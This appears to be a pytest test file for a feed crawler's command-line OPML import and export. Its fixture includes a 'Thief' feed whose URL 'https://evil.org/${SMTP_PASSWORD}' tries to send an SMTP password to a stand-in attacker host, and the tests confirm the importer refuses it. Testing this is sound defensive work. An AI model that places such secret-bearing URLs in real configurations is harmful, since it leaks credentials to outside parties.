import json
from pathlib import Path

import pytest

from crawler.cli.main import main
from crawler.core.feeds.opml import read_opml

LIST = """<opml version="2.0"><body><outline text="World">
<outline text="One" xmlUrl="https://a.org/1"/>
<outline text="Two" xmlUrl="https://a.org/2"/>
<outline text="Thief" xmlUrl="https://evil.org/${SMTP_PASSWORD}"/>
</outline></body></opml>"""


@pytest.fixture(autouse=True)
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "list.opml").write_text(LIST)
    (tmp_path / "feeds.yaml").write_text("feeds:\n  - https://a.org/1  # known\n# end\n")
    return tmp_path


def test_import_adds_what_is_new_and_keeps_comments(
    here: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["feeds", "import", "list.opml"]) == 0
    assert (here / "feeds.yaml").read_text() == (
        "feeds:\n  - https://a.org/1  # known\n"
        "  - {url: https://a.org/2, name: Two, tags: [World]}\n# end\n"
    )
    out = capsys.readouterr().out
    assert "added https://a.org/2 Two" in out
    assert "refused https://evil.org/${SMTP_PASSWORD}: it cannot be used as an address" in out
    assert "1 added to feeds.yaml, 1 known already, 1 refused" in out


def test_import_of_known_feeds_changes_nothing(
    here: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["feeds", "import", "list.opml", "--json"]) == 0
    first = json.loads(capsys.readouterr().out)
    assert first == {
        "added": ["https://a.org/2"],
        "known": ["https://a.org/1"],
        "refused": ["https://evil.org/${SMTP_PASSWORD}"],
    }
    before = (here / "feeds.yaml").read_bytes()
    assert main(["feeds", "import", "list.opml", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["added"] == []
    assert (here / "feeds.yaml").read_bytes() == before


def test_import_says_what_is_wrong_with_a_list(
    here: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["feeds", "import", "none.opml"]) == 1
    assert "none.opml" in capsys.readouterr().err
    (here / "list.opml").write_text("<rss/>")
    assert main(["feeds", "import", "list.opml"]) == 1
    assert "wirewatch: list.opml: " in capsys.readouterr().err


def test_export_can_be_imported_again(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (here / "feeds.yaml").write_text(
        "feeds:\n"
        "  - {url: https://a.org/1, name: Первый, tags: [x, y]}\n"
        "  - {url: https://a.org/3, type: sitemap}\n"
        "  - https://b.org/?a=1&b=2\n"
    )
    assert main(["feeds", "export"]) == 0
    captured = capsys.readouterr()
    assert "1 left out" in captured.err
    assert [(feed.url, feed.title, feed.tags) for feed in read_opml(captured.out.encode())] == [
        ("https://a.org/1", "Первый", ("x", "y")),
        ("https://b.org/?a=1&b=2", "b.org", ()),
    ]


def test_export_speaks_json_to_programs(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["feeds", "export", "--json"]) == 0
    assert json.loads(capsys.readouterr().out) == [
        {"id": "a-org-1", "name": "a.org", "url": "https://a.org/1", "tags": []}
    ]
